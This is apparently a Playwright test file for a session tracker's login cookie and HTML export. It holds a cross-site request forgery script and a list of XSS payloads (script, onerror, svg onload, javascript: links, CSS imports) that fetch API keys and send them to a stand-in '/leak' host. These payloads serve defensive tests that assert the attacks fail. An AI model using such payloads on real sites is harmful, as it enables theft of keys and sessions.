"""A browser that is logged in: pages of other ports cannot use its cookie, and an exported session that it opens cannot reach the tracker."""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import psycopg
import pytest
from psycopg.types.json import Jsonb

from tests.browser.conftest import Api, served
from tests.conftest import make_database
from tests.integration.keys.conftest import make_key
from tests.integration.query import seed
from tests.skips import CHROMIUM, skip_without

NOON = datetime(2026, 11, 20, 12, tzinfo=UTC)
LOG_IN = """key => fetch("/api/login", {method: "POST", headers: {Authorization: `Bearer ${key}`}}).then(answer => answer.status)"""
# What a request to the API is answered, and what a page may see of it.
ASK = """url => fetch(url, {credentials: "include"}).then(answer => answer.status, () => "refused")"""
# A page elsewhere that tries every way which sends cookies without a preflight.
FROM_ELSEWHERE = """async base => {
    const ask = (path, options) => fetch(base + path, {credentials: "include", mode: "no-cors", ...options}).catch(() => null);
    const body = JSON.stringify({name: "by a page", scopes: ["admin"]});
    await ask("/api/keys"); await ask("/api/keys", {method: "POST", body}); await ask("/api/import/claude-data", {method: "POST", body});
    const frame = document.createElement("iframe"); frame.name = "target"; document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "post", enctype: "text/plain", target: "target", action: base + "/api/keys"});
    form.append(Object.assign(document.createElement("input"), {name: body, value: ""})); document.body.append(form); form.submit();
    for (const name of ["img", "script"]) document.body.append(Object.assign(document.createElement(name), {src: base + "/api/keys"}));
}"""


@dataclass
class Browser:
    """Logged in with an admin's key, at `base`. `requests` are those of every page of the browser, `answers` their statuses."""

    api: Api
    base: str
    context: Any
    dashboard: Any
    requests: list[Any]

    def answers(self, path: str) -> list[int]:
        found = [request.response() for request in self.requests if request.url == f"{self.base}{path}"]
        return [response.status for response in found if response is not None]


@pytest.fixture(scope="module")
def chromium(playwright: Any) -> Iterator[Any]:
    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
    yield browser
    browser.close()


@pytest.fixture(scope="module")
def guarded(postgres_url: str, redis_server_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Api, str]]:
    """An API that asks for keys, and the key of its admin."""
    skip_without("chromium")
    database_url = make_database(postgres_url, "login_test")
    key = make_key(database_url, "admin")
    redis_url = re.sub(r"(\?db=|/)0$", r"\g<1>3", redis_server_url)
    with served(database_url, redis_url, tmp_path_factory.mktemp("login"), ACCESS="keys") as api:
        yield api, key


@pytest.fixture
def logged_in(guarded: tuple[Api, str], chromium: Any) -> Iterator[Browser]:
    api, key = guarded
    with chromium.new_context() as context:
        base = f"http://127.0.0.1:{api.port}"
        browser = Browser(api, base, context, context.new_page(), [])
        context.on("request", lambda request: browser.requests.append(request))  # noqa: PLW0108  Playwright sets an attribute of it
        browser.dashboard.goto(f"{base}/")
        assert browser.dashboard.evaluate(ASK, "/api/keys") == 401
        assert browser.dashboard.evaluate(LOG_IN, key) == 200
        assert browser.dashboard.evaluate(ASK, "/api/keys") == 200
        yield browser


def test_no_script_sees_the_cookie_and_logout_ends_it(logged_in: Browser) -> None:
    page = logged_in.dashboard
    assert page.evaluate("document.cookie") == ""
    [cookie] = logged_in.context.cookies(f"{logged_in.base}/api/me")
    assert (cookie["name"], cookie["httpOnly"], cookie["sameSite"]) == (f"tracker_login_{logged_in.api.port}", True, "Strict")
    assert logged_in.context.cookies(f"{logged_in.base}/flower/") == []
    assert page.evaluate("""fetch("/api/login", {method: "DELETE"}).then(answer => answer.status)""") == 200
    assert logged_in.context.cookies() == []
    assert page.evaluate(ASK, "/api/keys") == 401


def test_an_event_source_is_logged_in(logged_in: Browser) -> None:
    opened = """new Promise(resolve => {
        const source = new EventSource("/api/live");
        source.onopen = () => { source.close(); resolve("open"); };
        source.onerror = () => { source.close(); resolve("refused"); };
    })"""
    assert logged_in.dashboard.evaluate(opened) == "open"


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_on_another_port_cannot_use_the_cookie(logged_in: Browser, elsewhere: int, host: str) -> None:
    page = logged_in.context.new_page()
    page.goto(f"http://{host}:{elsewhere}/")
    del logged_in.requests[:]
    page.evaluate(FROM_ELSEWHERE, logged_in.base)
    page.wait_for_load_state("networkidle")

    # Of most the browser gives no answer to anybody (Cross-Origin-Resource-Policy); the form's is shown in its frame.
    assert sum(request.url == f"{logged_in.base}/api/keys" for request in logged_in.requests) >= 4
    assert set(logged_in.answers("/api/keys")) == {403}
    if host == "127.0.0.1":
        # The attack is one: the browser does send the cookie to another port.
        sent = [request.all_headers().get("cookie", "") for request in logged_in.requests if request.url == f"{logged_in.base}/api/keys"]
        assert any("tracker_login_" in each for each in sent)
    with psycopg.connect(logged_in.api.database_url) as connection:
        assert connection.execute("SELECT count(*) FROM api_keys").fetchone() == (1,)
        assert connection.execute("SELECT count(*) FROM import_jobs").fetchone() == (0,)


def attacks(elsewhere: int) -> list[str]:
    leak = f"http://127.0.0.1:{elsewhere}/leak"
    run = f"fetch('/api/keys').then(a=>a.text()).then(t=>fetch('{leak}?'+t))"
    return [
        f"<script>{run}</script>",
        f'<img src="{leak}" onerror="{run}">',
        f'"><svg onload="{run}">',
        f'<iframe srcdoc="<script>{run}</script>"></iframe><iframe src="/api/keys"></iframe>',
        f'</style><style>@import "{leak}"; body {{background: url({leak})}}</style><link rel="stylesheet" href="{leak}">',
        f'<meta http-equiv="refresh" content="0;url={leak}"><base href="{leak}">',
        f'<form action="/api/keys" method="post"><button autofocus onfocus="{run}">x</button></form>',
        f"[link](javascript:{run}) ![picture]({leak}) <javascript:{run}> [data](data:text/html,<script>{run}</script>)",
        f"</title></pre></code>--></textarea><script>{run}</script>",
    ]


def store(database_url: str, texts: list[str]) -> None:
    """A session with every text in every field that an export shows."""
    everything = "\n\n".join(texts)
    with psycopg.connect(database_url, autocommit=True, options="-c timezone=UTC") as connection:
        project = seed.add_project(connection, f"/home/{texts[0]}")
        user = seed.add_user(connection, texts[2])
        named = {"title": everything, "git_branch": texts[1], "model": texts[2], "client_version": texts[0]}
        seed.add_session(connection, "s", project, user, started_at=NOON, **named)
        connection.execute("INSERT INTO session_marks (session_id, note) VALUES ('s', %s)", [everything])
        for number, text in enumerate([*texts, everything]):
            at = NOON + timedelta(seconds=10 * number)
            seed.add_message(connection, "s", at, text)
            seed.add_message(connection, "s", at + timedelta(seconds=1), text, role="assistant", model=texts[0])
            parameters = {"parameters": Jsonb({"command": text, text: text, "file_path": text})}
            seed.add_tool_call(connection, "s", at + timedelta(seconds=2), text[:150], result=text, status="error", **parameters)
            seed.add_tool_call(connection, "s", at + timedelta(seconds=3), "Edit", result=text, **parameters)
            seed.add_activity(connection, "s", at + timedelta(seconds=4), f"/{text}")
        seed.compute_aggregates(connection)


def test_an_exported_page_runs_and_fetches_nothing(logged_in: Browser, elsewhere: int) -> None:
    store(logged_in.api.database_url, attacks(elsewhere))
    path = "/api/sessions/s/export?format=html"
    link = f"""() => {{ const a = Object.assign(document.createElement("a"), {{href: "{path}", target: "_blank", rel: "opener"}});
        document.body.append(a); a.click(); }}"""
    del logged_in.requests[:]
    with logged_in.context.expect_page() as opened:
        logged_in.dashboard.evaluate(link)
    page = opened.value
    page.wait_for_load_state("networkidle")

    # It is the whole page, in its own style.
    assert logged_in.answers(path) == [200]
    text = page.inner_text("body")
    assert all(each in text for each in ("<script>fetch(", "onload=", "@import", "http-equiv="))
    assert page.evaluate("getComputedStyle(document.body).fontFamily") != "Times New Roman"
    assert page.evaluate("document.querySelectorAll('script, iframe, img, form, link, svg, base, meta[http-equiv=refresh]').length") == 0
    assert (
        page.evaluate("[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length") == 0
    )
    assert page.evaluate("[...document.querySelectorAll('[href]')].filter(e => !/^(https?:|#)/.test(e.getAttribute('href'))).length") == 0

    # Nor could a script do anything, if one ran.
    assert page.evaluate("self.origin") == "null"
    assert page.evaluate("window.opener") is None
    assert page.evaluate(ASK, f"{logged_in.base}/api/keys") == "refused"
    assert page.evaluate(ASK, f"http://127.0.0.1:{elsewhere}/leak") == "refused"
    assert page.evaluate("(() => { try { return document.cookie } catch (error) { return error.name } })()") == "SecurityError"

    # The dashboard polls meanwhile; of this page there was one request.
    of_page = [request.url for request in logged_in.requests if request.frame == page.main_frame]
    assert of_page == [f"{logged_in.base}{path}"]
    assert not any("/leak" in request.url for request in logged_in.requests)
